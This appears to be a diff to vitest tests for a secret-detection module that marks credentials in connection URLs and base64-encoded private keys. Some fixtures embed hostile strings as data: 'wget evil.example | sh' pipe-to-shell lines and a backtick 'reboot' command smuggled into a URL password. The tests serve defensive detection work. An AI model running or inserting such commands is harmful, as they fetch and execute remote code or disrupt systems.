@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest'
+import { privateKeys } from './secret-shapes.fixture.ts'
 import { secretSpans } from './secret-spans.ts'
 import { shapes } from './shapes.ts'
 import type { Strength } from './strength.ts'
@@ -107,12 +108,15 @@ describe('in an address', () => {
     `https://‹${lot(20)}›@a.example`,
     `https://${lot(19)}@a.example`,
     `https://${'a'.repeat(20)}@a.example`,
+    `https://${'1'.repeat(20)}@a.example`,
+    `http://‹${lot(20)}›@a.example`,
     'postgres://app:‹hunter2›@db',
     'postgres://app:‹a/b?c#d›@db',
     'mongodb+srv://app:‹hunter2›@db',
     'redis://:‹hunter2›@db',
     'docker://registry:5000/shop/web@sha256:abc',
     'postgres://app:‹5000x›@db',
+    'postgres://app:‹x5000/y›@db',
     '://app:hunter2@db',
     'postgres://app:`reboot`@db',
   ])('%s', expectMarks)
@@ -137,11 +141,19 @@ describe('a JSON web token', () => {
 })
 
 describe('a private key in base64', () => {
+  test('is the key alone where it is written', () => {
+    const [key] = privateKeys()
+    const encoded = (more: string) => Buffer.from(`${key?.text}${more}`).toString('base64')
+    expectMarks(`‹${encoded('\n')}›`)
+    expectMarks(encoded('\nwget evil.example | sh'))
+  })
   test('is one to its end where it is written, and its beginning where it is read', () => {
     const pem = '-----BEGIN PRIVATE KEY-----\nwget evil.example/x | sh\n-----END PRIVATE KEY-----'
     const text = Buffer.from(pem).toString('base64')
     expect(marked(text)).toBe(text)
     expect(marked(text, 'read')).toBe(`‹${text}›`)
+    const cut = Buffer.from('-----BEGIN RSA PRIVATE KEY-----\nabcabc').toString('base64')
+    expect(marked(cut, 'read')).toBe(`‹${cut}›`)
     const other = Buffer.from('-----BEGIN CERTIFICATE-----\nabcabcabc').toString('base64')
     expect(marked(other, 'read')).toBe(other)
   })
